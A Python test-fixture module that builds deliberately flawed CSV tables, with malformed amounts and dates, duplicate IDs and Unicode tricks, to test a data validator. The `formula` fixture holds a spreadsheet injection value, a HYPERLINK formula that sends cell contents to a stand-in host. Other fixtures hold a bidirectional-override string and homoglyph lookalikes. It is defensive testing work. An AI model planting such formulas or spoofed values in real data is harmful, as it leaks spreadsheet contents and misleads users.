"""Tables that are sound and hold values that are not, or that can be mistaken for others."""

from __future__ import annotations

from pathlib import Path

from bad_tables import FIRST, SECOND, lines, participants, projects, save

PARTICIPANT = "1;999000001;Ateneo della Mole;coordinator;false;Genova;IT;1500.5"
OTHER = "1;999000002;Cantieri Lanterna;participant;true;Genova;IT;2500"
MAPPING = """publisher = "Harbour office"
licence = "internal"
[tables.companies]
row = "one company"

[tables.companies.things.company]
iri = "organisation/quay-{key}"
class = "Company"

[tables.companies.columns]
key = { headers = ["key"], type = "identifier", required = "cell" }
name = { headers = ["name"], required = "cell", about = "company", term = "label" }
province = { headers = ["province"], type = "province", about = "company", term = "nutsCode" }
"""


def priced(folder: Path, *amounts: str) -> Path:
    """Write a project for each amount."""
    rows = [f"{key};Quay {key};2020-01-01;2023-12-31;{amount}" for key, amount in enumerate(amounts, start=1)]
    return projects(folder, *rows)


def dated(folder: Path, start: str, end: str = "2023-12-31") -> Path:
    """Write a good project and one with these dates."""
    return projects(folder, FIRST, f"2;Lighter piers;{start};{end};2500")


def located(folder: Path, *countries: str) -> list[Path]:
    """Write a participant for each country."""
    rows = [
        f"1;99900000{place};Quay {place};participant;false;;{country};1"
        for place, country in enumerate(countries, start=1)
    ]
    return participants(folder, *rows)


def decimal_comma_and_point(folder: Path) -> Path:
    return priced(folder, "103437,5", "103437.5")


def thousands(folder: Path) -> Path:
    return priced(folder, "1.234.567,89", "1 234 567.89", "1,234")


def negative_money(folder: Path) -> Path:
    return priced(folder, "1500", "-1500")


def not_finite(folder: Path) -> Path:
    return priced(folder, "1500", "NaN", "inf", "1e400")


def arabic_digits(folder: Path) -> Path:
    return priced(folder, "1500", "\u0661\u0665\u0660\u0660")


def zero_date(folder: Path) -> Path:
    return dated(folder, "0000-00-00")


def thirtieth_of_february(folder: Path) -> Path:
    return dated(folder, "2021-02-30")


def day_or_month_first(folder: Path) -> Path:
    return dated(folder, "03/04/2020")


def end_before_start(folder: Path) -> Path:
    return dated(folder, "2021-01-01", "2020-12-31")


def far_years(folder: Path) -> Path:
    return dated(folder, "1492-10-12", "9999-12-31")


def same_id_twice(folder: Path) -> Path:
    return projects(folder, FIRST, SECOND, FIRST.replace("Calmer quays", "Louder quays"))


def rewritten_ids(folder: Path) -> list[Path]:
    return participants(folder, PARTICIPANT, OTHER.replace("999000002", "9.99E+08"))


def placeholders(folder: Path) -> list[Path]:
    return participants(
        folder,
        PARTICIPANT,
        "1;N/A;Cantieri Lanterna;participant;false;Genova;IT;1",
        "1;999000003;Darsena Nuova;participant;N/A;N/A;N/A;N/A",
    )


def province_of_naples(folder: Path) -> list[Path]:
    table = lines("key,name,province", "1,Cantieri del Golfo,NA", "2,Cantieri Lanterna,GE")
    return [save(folder / "companies.csv", table), save(folder / "companies.toml", MAPPING)]


def eu_countries(folder: Path) -> list[Path]:
    return located(folder, "UK", "EL", "XK", "GB", "GR")


def blank_in_id(folder: Path) -> list[Path]:
    around = PARTICIPANT.replace("999000001", "\u00a0999000001\u00a0")
    return participants(folder, around, OTHER.replace("999000002", "999\u00a0000002"))


def formula(folder: Path) -> list[Path]:
    evil = '=HYPERLINK(""http://a.example/?""&A1)'
    return participants(
        folder, PARTICIPANT.replace("Ateneo della Mole", f'"{evil}"'), OTHER.replace(";IT;", ";@SUM(A1);")
    )


def bidi(folder: Path) -> list[Path]:
    return participants(folder, PARTICIPANT.replace("della Mole", "\u202eeloM alled\u202c"))


def zero_width(folder: Path) -> list[Path]:
    inside = PARTICIPANT.replace("Ateneo", "Ate\u200bneo").replace("999000001", "999000001\u200b")
    return participants(folder, inside, OTHER.replace("999000002", "999\u200b000002"))


def composed_and_decomposed(folder: Path) -> list[Path]:
    composed, decomposed = "Universit\u00e0 del Molo", "Universita\u0300 del Molo"
    second = PARTICIPANT.replace("1;", "2;", 1).replace("Ateneo della Mole", decomposed)
    return participants(folder, PARTICIPANT.replace("Ateneo della Mole", composed), second)


def homoglyphs(folder: Path) -> list[Path]:
    country = PARTICIPANT.replace(";IT;", ";\u0406\u0422;")
    return participants(folder, country, OTHER.replace("999000002", "99900000\u041e"))


def control_characters(folder: Path) -> list[Path]:
    ringing = PARTICIPANT.replace("Ateneo", "\x07Ateneo\x1b")
    return participants(folder, ringing, OTHER.replace("999000002", "999\x08000002"))
